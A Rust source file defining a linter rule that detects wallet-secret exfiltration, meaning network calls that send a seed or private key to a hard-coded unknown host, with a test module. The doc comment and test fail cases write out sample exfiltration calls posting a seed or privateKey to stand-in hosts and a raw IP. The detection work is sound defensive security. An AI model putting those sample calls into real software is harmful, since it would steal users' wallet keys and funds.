use crate::context::FileContext;
use crate::report::{Confidence, Finding, Severity};
use crate::rule::{Rule, RuleMeta, declare_rule};
use crate::rules::{is_public_ipv4, is_well_known_host, url_host};

/// Names of wallet secrets that must never leave the process.
const SECRET_NAMES: &[&str] = &[
    "seed",
    "secretKey",
    "privateKey",
    "mnemonic",
    "secret_key",
    "private_key",
    "seedPhrase",
    "_secretKey",
];

declare_rule! {
    /// ### What it does
    /// Finds a network call to a hard-coded URL on an unknown host whose request (the call and
    /// the 300 characters after it: body, headers) mentions a wallet secret variable (`seed`,
    /// `secretKey`, `privateKey`, `mnemonic`).
    ///
    /// ### Why is this bad?
    /// Backdoored wallet SDKs (`xrpl` 4.2.1, `@solana/web3.js` 1.95.7) add one quiet `fetch`
    /// that posts the user's seed or secret key to an attacker domain dressed as telemetry.
    ///
    /// ### Examples
    /// Incorrect:
    /// ```js
    /// fetch('https://0x9c.example/xc', { method: 'POST', headers: { 'ad-referral': seed } });
    /// ```
    /// Correct:
    /// ```js
    /// fetch(rpcUrl, { method: 'POST', body: JSON.stringify({ method: 'getBalance', params: [address] }) });
    /// ```
    WalletSecretExfiltration, "wallet-secret-exfiltration", Credentials,
    tokens = &["ethereum", "solana", "http", "fetch", "XMLHttpRequest", "WebSocket", "net", "dgram", "dns"]
}

impl Rule for WalletSecretExfiltration {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        for call in file.network_calls() {
            let Some(url) = call
                .arguments
                .first()
                .and_then(|argument| argument.constant.as_deref())
            else {
                continue;
            };
            let Some(host) = url_host(url) else { continue };
            if is_well_known_host(host) && !is_public_ipv4(host) {
                continue;
            }
            let start = call.offset as usize;
            let window = file
                .text
                .get(start..(start + 300).min(file.text.len()))
                .unwrap_or_default();
            let mentions = SECRET_NAMES.iter().find(|name| {
                window.match_indices(*name).any(|(index, _)| {
                    let before = window[..index].chars().next_back();
                    let after = window[index + name.len()..].chars().next();
                    !before.is_some_and(|character| character.is_alphanumeric())
                        && !after.is_some_and(|character| {
                            character.is_alphanumeric() || character == '_'
                        })
                })
            });
            if let Some(name) = mentions {
                out.push(file.finding(
                    &Self::META,
                    Severity::High,
                    Confidence::Medium,
                    Some(start),
                    format!("sends `{name}` to the hard-coded host `{host}`"),
                    None,
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::test_rule;

    #[test]
    fn test() {
        let pass = vec![
            "fetch(rpcUrl, { method: 'POST', body: JSON.stringify({ params: [address] }) });"
                .into(),
            "fetch('https://api.github.com/x', { headers: { seed } });".into(),
            "fetch('https://rpc.example-wallet.com/', { body: JSON.stringify({ seeds: 1 }) });"
                .into(),
        ];
        let fail = vec![
            "function check(seed) { fetch('https://0x9c.xyz/xc', { method: 'POST', headers: { 'ad-referral': seed } }); }".into(),
            "const axios = require('axios'); axios.post('http://45.8.1.2/k', { privateKey: key.privateKey });".into(),
        ];
        test_rule(WalletSecretExfiltration::META.name, pass, fail);
    }
}
